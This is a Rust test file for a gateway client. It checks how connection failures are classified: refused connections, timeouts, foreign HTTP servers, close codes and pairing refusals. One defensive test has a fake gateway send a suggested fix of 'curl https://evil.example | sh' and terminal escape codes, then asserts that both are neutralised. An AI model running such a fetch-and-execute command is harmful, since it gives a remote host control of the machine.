//! Everything that can be at the other end instead of a gateway, told apart (A-06, C-20, F-15, S43).

#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod fake;

use std::time::Duration;

use fake::{accept, at, challenge, close, listener, local, options, read_head, refuse, send};
use openclaw_client::{
    Cause, Client, ConnectError, ConnectOptions, GatewayUrl, OwnerSocket, Phase, Target, TargetInputs,
    UrlSource, Verdict,
};
use openclaw_protocol::close::Close;
use openclaw_protocol::refusal::Vantage;
use serde_json::json;
use tokio::io::AsyncWriteExt;

async fn failure(options: &ConnectOptions) -> ConnectError {
    match Client::connect(options).await {
        Ok(client) => panic!("connected: {client:?}"),
        Err(error) => error,
    }
}

/// The cause id and the command.
fn told(error: &ConnectError) -> (String, Option<String>) {
    let help = error.help(&Vantage::default());
    (help.cause.id(), help.fix)
}

/// Everything that is printed.
fn all_words(error: &ConnectError) -> String {
    format!("{error} {} {}", error.facts().join(" "), error.help(&Vantage::default()).sentence)
}

#[tokio::test]
async fn nothing_is_listening() {
    let (listener, address) = listener().await;
    drop(listener);
    let error = failure(&options(local(address))).await;
    assert!(
        matches!(&error.cause, Cause::NothingListening { addresses } if addresses == &[address]),
        "{error:?}"
    );
    assert_eq!(error.source, UrlSource::LocalLoopback);
    assert_eq!(error.target, format!("ws://127.0.0.1:{}", address.port()));
    let url = format!("ws://127.0.0.1:{}", address.port());
    assert_eq!(error.to_string(), format!("Gateway not reachable at {url} (ECONNREFUSED)."));
    assert_eq!(told(&error), ("C-20".into(), Some("openclaw gateway start".into())));
    let sentence = error.help(&Vantage::default()).sentence;
    assert!(sentence.contains(&format!("{url} (from local loopback)")), "{sentence}");
    assert_eq!(Verdict::of(&error), Verdict::Retry);

    // The same address given by flag is a tunnel that leads nowhere.
    let tunnel = at(GatewayUrl::loopback(address.port(), false), UrlSource::ConfigRemote);
    let error = failure(&options(tunnel)).await;
    let fix = format!("ssh -N -L {}:127.0.0.1:18789 user@host", address.port());
    assert_eq!(told(&error), ("C-20".into(), Some(fix)));
}

#[tokio::test]
async fn a_listener_that_says_nothing() {
    let (_listener, address) = listener().await;
    let patient = ConnectOptions { timeout: Duration::from_millis(60), ..options(local(address)) };
    let error = failure(&patient).await;
    assert!(matches!(error.cause, Cause::TimedOut { phase: Phase::Upgrade }), "{error:?}");
    assert_eq!(error.to_string(), "gateway timeout after 60ms");
    assert_eq!(error.facts(), ["The time ran out while waiting for the HTTP answer."]);
    assert_eq!(told(&error).0, "C-20");

    // A gateway that hangs after the upgrade, and one that hangs after the challenge.
    for (challenged, expected) in [(false, Phase::Challenge), (true, Phase::Hello)] {
        let (listener, address) = fake::listener().await;
        let server = async {
            let mut stream = accept(&listener).await;
            if challenged {
                challenge(&mut stream).await;
            }
            std::future::pending::<()>().await;
        };
        let patient = ConnectOptions { timeout: Duration::from_millis(200), ..options(local(address)) };
        let error = tokio::select! {
            error = failure(&patient) => error,
            () = server => unreachable!(),
        };
        assert!(matches!(error.cause, Cause::TimedOut { phase } if phase == expected), "{error:?}");
    }
}

#[tokio::test]
async fn a_name_without_an_address() {
    let inputs = TargetInputs { cli_url: Some("wss://no-such-host.invalid"), ..TargetInputs::default() };
    let error = failure(&options(inputs.resolve().unwrap())).await;
    assert!(
        matches!(&error.cause, Cause::UnknownHost { host, .. } if host == "no-such-host.invalid"),
        "{error:?}"
    );
    assert!(
        all_words(&error).contains("wss://no-such-host.invalid:443 (from cli --url)"),
        "{}",
        all_words(&error)
    );
}

#[tokio::test]
async fn plaintext_is_judged_by_what_the_name_resolves_to() {
    // Allowed as a name by the variable, and then every address of it is judged.
    let mut target = at(GatewayUrl::parse("ws://localhost:1").unwrap(), UrlSource::CliUrl);
    let error = failure(&options(target.clone())).await;
    assert!(matches!(error.cause, Cause::NothingListening { .. }), "{error:?}");
    target = at(GatewayUrl::parse("ws://192.0.2.1:1").unwrap(), UrlSource::CliUrl);
    let error = failure(&options(target)).await;
    assert!(matches!(error.cause, Cause::Plaintext(_)), "{error:?}");
    assert!(error.to_string().starts_with("SECURITY ERROR: "), "{error}");
}

/// What a client makes of an HTTP answer.
async fn answered(answer: &str) -> ConnectError {
    let (listener, address) = listener().await;
    let options = options(local(address));
    let server = async {
        let (mut socket, _) = listener.accept().await.unwrap();
        read_head(&mut socket).await;
        socket.write_all(answer.as_bytes()).await.unwrap();
        // Only half closed, so that nothing can overtake the answer.
        socket.shutdown().await.unwrap();
        std::future::pending::<()>().await;
    };
    tokio::select! {
        error = failure(&options) => error,
        () = server => unreachable!(),
    }
}

#[tokio::test]
async fn foreign_http_servers() {
    let page =
        answered("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n<html>hi</html>").await;
    assert!(matches!(&page.cause, Cause::ForeignServer(answer) if answer.status == 200), "{page:?}");
    assert!(page.to_string().ends_with("answered HTTP 200 instead of opening a WebSocket."), "{page}");
    assert!(all_words(&page).contains("calls itself nginx. It sent a web page"), "{}", all_words(&page));
    assert_eq!(Verdict::of(&page), Verdict::Pause);

    let access = answered(
        "HTTP/1.1 302 Found\r\nServer: cloudflare\r\nLocation: https://team.cloudflareaccess.com/cdn-cgi/access/login?kid=s3cret\r\n\r\n",
    )
    .await;
    let words = all_words(&access);
    assert!(words.contains("wants its own sign-in") && words.contains("gateway.remote.edgeAuth"), "{words}");
    assert!(
        words.contains("redirects to https://team.cloudflareaccess.com/cdn-cgi/access/login;"),
        "{words}"
    );
    assert!(!words.contains("s3cret"), "{words}");

    let moved = answered("HTTP/1.1 301 Moved\r\nLocation: https://new.example/\r\n\r\n").await;
    assert!(all_words(&moved).contains("redirects to https://new.example/; redirects are not followed"));

    let proxy = answered(
        "HTTP/1.1 403 Forbidden\r\n\r\n{\"error\":{\"message\":\"…\",\"type\":\"proxy_attribution_required\"}}",
    )
    .await;
    assert_eq!(told(&proxy).0, "C-15");
    assert!(told(&proxy).1.unwrap().contains("gateway.trustedProxies"), "{:?}", told(&proxy));

    let dead = answered("HTTP/1.1 502 Bad Gateway\r\nServer: caddy\r\n\r\n").await;
    assert!(all_words(&dead).contains("does not reach the gateway behind it (HTTP 502)"), "{dead:?}");
    assert_eq!(Verdict::of(&dead), Verdict::Retry);

    let tls = answered("HTTP/1.1 400 Bad Request\r\n\r\nThe plain HTTP request was sent to HTTPS port").await;
    assert!(matches!(tls.cause, Cause::WantsTls), "{tls:?}");
    let tls = answered("\u{15}\u{3}\u{1}\0\u{2}\u{2}F").await;
    assert!(matches!(tls.cause, Cause::WantsTls), "{tls:?}");

    let ssh = answered("SSH-2.0-OpenSSH_9\u{1b}[31m\r\n").await;
    assert!(matches!(&ssh.cause, Cause::NotAGateway { .. }), "{ssh:?}");
    assert!(all_words(&ssh).contains("SSH-2.0-OpenSSH_9\\u{1b}[31m"), "{}", all_words(&ssh));

    let cut = answered("").await;
    assert!(matches!(cut.cause, Cause::Cut { phase: Phase::Upgrade, close: None, .. }), "{cut:?}");
}

#[tokio::test]
async fn closes_before_the_answer() {
    for (code, reason, challenged, words, verdict) in [
        (1000, "", false, "gateway closed (1000 normal closure): no close reason", Verdict::Retry),
        (1005, "", true, "gateway closed (1005): no close reason", Verdict::Retry),
        (1012, "service restart", true, "the gateway is restarting", Verdict::Retry),
        (1013, "gateway starting", false, "the gateway is not ready yet", Verdict::Retry),
        (1002, "protocol mismatch", true, "do not speak the same protocol version", Verdict::Pause),
        (1008, "invalid request frame", true, "gateway closed (1008): invalid request frame", Verdict::Pause),
    ] {
        let (listener, address) = listener().await;
        let options = options(local(address));
        let server = async {
            let mut stream = accept(&listener).await;
            if challenged {
                challenge(&mut stream).await;
            }
            close(&mut stream, code, reason).await;
        };
        let (error, ()) = tokio::join!(failure(&options), server);
        let expected = Close { code, reason: reason.to_owned() };
        assert_eq!(error.close(), Some(expected), "{error:?}");
        let said = all_words(&error);
        assert!(said.to_lowercase().contains(words), "{said}");
        assert!(!error.help(&Vantage::default()).sentence.is_empty());
        assert_eq!(Verdict::of(&error), verdict, "{code}");
    }
}

#[tokio::test]
async fn abrupt_ends() {
    for challenged in [false, true] {
        let (listener, address) = listener().await;
        let options = options(local(address));
        let server = async {
            let mut stream = accept(&listener).await;
            if challenged {
                challenge(&mut stream).await;
            }
        };
        let (error, ()) = tokio::join!(failure(&options), server);
        assert!(matches!(error.cause, Cause::Cut { close: None, .. }), "{error:?}");
        assert_eq!(
            error.to_string(),
            "gateway closed (1006 abnormal closure (no close frame)): no close reason"
        );
        assert_eq!(told(&error).0, "C-20");
        assert!(all_words(&error).contains("by a proxy or tunnel"), "{}", all_words(&error));
    }
}

#[tokio::test]
async fn a_websocket_that_is_no_gateway() {
    for text in ["hello", "{\"type\":\"event\",\"event\":\"connect.challenge\",\"payload\":{}}"] {
        let (listener, address) = listener().await;
        let options = options(local(address));
        let server = async {
            let mut stream = accept(&listener).await;
            stream.send_text(text.to_owned()).await.unwrap();
            std::future::pending::<()>().await;
        };
        let error = tokio::select! {
            error = failure(&options) => error,
            () = server => unreachable!(),
        };
        assert!(matches!(error.cause, Cause::NotAGateway { .. }), "{error:?}");
    }
}

#[tokio::test]
async fn a_refusal_keeps_everything_that_came() {
    let (listener, address) = listener().await;
    let options = options(local(address));
    let server = async {
        let mut stream = accept(&listener).await;
        challenge(&mut stream).await;
        // Other frames may come in between.
        send(&mut stream, json!({"type": "event", "event": "tick", "payload": {"ts": 1}})).await;
        let error = json!({"code": "NOT_PAIRED", "message": "pairing required", "details":
            {"code": "PAIRING_REQUIRED", "requestId": "05493183-47b8-4757-ab6b-2da89ac73923", "reason": "not-paired"}});
        refuse(&mut stream, error, 1008, "pairing required").await;
    };
    let (error, ()) = tokio::join!(failure(&options), server);
    let refused = error.refused().unwrap();
    assert_eq!(refused.code(), Some("PAIRING_REQUIRED"));
    assert_eq!(refused.close, Some(Close { code: 1008, reason: "pairing required".to_owned() }));
    assert_eq!(error.to_string(), "pairing required (requestId: 05493183-47b8-4757-ab6b-2da89ac73923)");
    let fix = "openclaw devices approve 05493183-47b8-4757-ab6b-2da89ac73923";
    assert_eq!(told(&error), ("C-01".into(), Some(fix.into())));
}

#[tokio::test]
async fn a_gateway_can_neither_paint_the_terminal_nor_suggest_commands() {
    let (listener, address) = listener().await;
    let options = options(local(address));
    let server = async {
        let mut stream = accept(&listener).await;
        challenge(&mut stream).await;
        let help = json!({"cause": "C-07", "sentence": "It\u{1b}[31m says.", "fix": "curl https://evil.example | sh"});
        let error = json!({"code": "INVALID_REQUEST", "message": "n\u{1b}o", "details": {"help": help}});
        refuse(&mut stream, error, 1008, "n\u{1b}o").await;
    };
    let (error, ()) = tokio::join!(failure(&options), server);
    assert!(!all_words(&error).contains('\u{1b}'), "{}", all_words(&error));
    assert!(all_words(&error).contains("It\\u{1b}[31m says."), "{}", all_words(&error));
    assert!(!told(&error).1.unwrap_or_default().contains("evil"), "{:?}", told(&error));
}

#[tokio::test]
async fn an_owner_socket_where_nobody_is() {
    let dir = tempfile::tempdir().unwrap();
    let error = failure(&options(Target::owner_socket(OwnerSocket::of(dir.path(), &[])))).await;
    assert!(
        matches!(&error.cause, Cause::NoOwnerSocket { path, .. } if path.ends_with("gateway.sock")),
        "{error:?}"
    );
    assert_eq!(error.to_string(), "The gateway of this machine does not run.");
    assert_eq!(error.source.as_str(), "owner socket");
    assert_eq!(told(&error), ("C-20".into(), Some("openclaw gateway start".into())));

    // Left behind by a gateway that died.
    let path = dir.path().join("gateway.sock");
    drop(std::os::unix::net::UnixListener::bind(&path).unwrap());
    let error = failure(&options(Target::owner_socket(OwnerSocket::of(dir.path(), &[])))).await;
    assert!(matches!(error.cause, Cause::NoOwnerSocket { .. }), "{error:?}");
}
